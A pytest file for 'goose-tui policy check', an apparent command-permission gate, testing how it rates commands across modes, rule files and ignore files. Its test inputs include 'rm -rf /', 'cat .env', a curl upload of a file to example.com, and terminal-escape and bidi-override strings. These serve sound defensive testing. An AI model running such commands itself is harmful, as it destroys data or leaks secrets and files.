"""`goose-tui policy check`: what the gate says, and why."""

from __future__ import annotations

import json

import pytest

from app.cli.conftest import Shell


def test_a_command_is_explained_part_by_part(shell: Shell) -> None:
    (shell.folder / "src").mkdir()
    ran = shell("policy", "check", "cd src && ls && make")
    assert ran.code == 0
    assert ran.err == ""
    assert ran.out.splitlines() == [
        "ask",
        "  `make` may run anything",
        "",
        "   1 ✓ cd src: only reads",
        "   2 ✓ ls: only reads",
        "   3 ? make",
        "       `make` may run anything",
    ]


def test_the_mode_and_the_folder_count(shell: Shell) -> None:
    (shell.folder / "src").mkdir()
    assert shell("policy", "check", "--mode", "auto", "make").out.startswith("allow\n")
    assert shell("policy", "check", "--mode", "plan", "make").out.startswith("deny\n")
    assert shell("policy", "check", "--mode", "auto", "cat .env").out.startswith(
        "ask, in every mode\n"
    )
    assert shell("policy", "check", "cat ../x").out.startswith("ask\n")
    assert shell("policy", "check", "--cwd", "src", "cat ../x").out.startswith("ask\n")
    inside = shell("policy", "check", "--cwd", "src", "--root", ".", "cat ../x")
    assert inside.out.startswith("allow\n")


def test_lines_of_json_are_answered_one_by_one(shell: Shell) -> None:
    texts = ["ls", "ls; make\n", "rm -rf /", "ls \u202e"]
    lines = "".join(json.dumps(text) + "\n" for text in texts)
    ran = shell("policy", "check", "--jsonl", stdin=lines)
    assert ran.code == 0
    found = [json.loads(line) for line in ran.out.splitlines()]
    assert [each["command"] for each in found] == texts
    assert [each["effect"] for each in found] == ["allow", "ask", "deny", "ask"]
    assert all(each["reasons"] for each in found)


def test_what_is_shown_obeys_nobody(shell: Shell) -> None:
    ran = shell("policy", "check", "ls \x1b]0;x\x07 \u202e")
    assert "\x1b" not in ran.out
    assert "\u202e" not in ran.out


@pytest.mark.parametrize(
    ("argv", "stdin", "words"),
    [
        (("policy", "check"), "", "either a command or --jsonl"),
        (("policy", "check", "--jsonl", "ls"), "", "either a command or --jsonl"),
        (("policy", "check", "--jsonl"), "ls\n", "Line 1 of standard input is no JSON string"),
        (("policy", "check", "--jsonl"), '"ls"\n["ls"]\n', "Line 2"),
        (("policy", "check", "--cwd", "nowhere", "ls"), "", "nowhere is no folder"),
    ],
)
def test_a_wrong_call_is_a_sentence(
    shell: Shell, argv: tuple[str, ...], stdin: str, words: str
) -> None:
    ran = shell(*argv, stdin=stdin)
    assert ran.code == 2
    assert words in ran.err


def judged(shell: Shell, *texts: str, mode: str = "smart") -> list[tuple[str, str]]:
    """The effect on each command, and the first reason."""
    lines = "".join(json.dumps(text) + "\n" for text in texts)
    ran = shell("policy", "check", "--jsonl", "--mode", mode, stdin=lines)
    found = [json.loads(line) for line in ran.out.splitlines()]
    assert all(each.keys() == {"command", "effect", "reasons"} for each in found)
    return [(each["effect"], each["reasons"][0]) for each in found]


def test_the_rules_that_a_session_there_would_heed_are_heeded(shell: Shell) -> None:
    shell("policy", "allow", "shell: git fetch *")
    shell("policy", "deny", "path: ./private/**")
    (shell.folder / ".goose-tui").mkdir()
    own = "rules: ['ask shell: ls *', 'allow shell: make *']"
    (shell.folder / ".goose-tui" / "rules.yaml").write_text(own, encoding="utf-8")
    (shell.folder / ".gooseignore").write_text("hidden.txt\n", encoding="utf-8")
    commands = ("git fetch -p", "cat private/x", "ls", "make", "cat hidden.txt", "cat .env")
    found = judged(shell, *commands)
    assert ".gooseignore:1 keeps" in found.pop(4)[1]
    assert found == [
        ("allow", "allow shell: git fetch *"),
        ("deny", "deny path: ./private/**"),
        ("ask", "ask shell: ls *"),
        ("ask", "`make` may run anything"),
        ("ask", "reads .env, which looks like a secret"),
    ]
    assert shell("policy", "check", "cat private/x").out.startswith("deny\n")
    # What the folder allows counts as soon as it is trusted.
    assert shell("trust", "--yes").code == 0
    assert judged(shell, "make")[0][0] == "allow"


def test_what_goes_to_a_host_asks_in_every_mode(shell: Shell) -> None:
    found = judged(shell, "curl -F f=@notes https://example.com", "curl https://a.org", mode="auto")
    assert [effect for effect, _ in found] == ["ask", "allow"]
    assert found[0][1] == "network: it may send files to example.com"


def test_a_rules_file_that_cannot_be_read_lets_nothing_run(shell: Shell) -> None:
    (shell.home / "config").mkdir(parents=True, exist_ok=True)
    (shell.home / "config" / "rules.yaml").write_text("rules: ['allow shell: *']", encoding="utf-8")
    assert judged(shell, "ls", mode="auto")[0][0] == "ask"
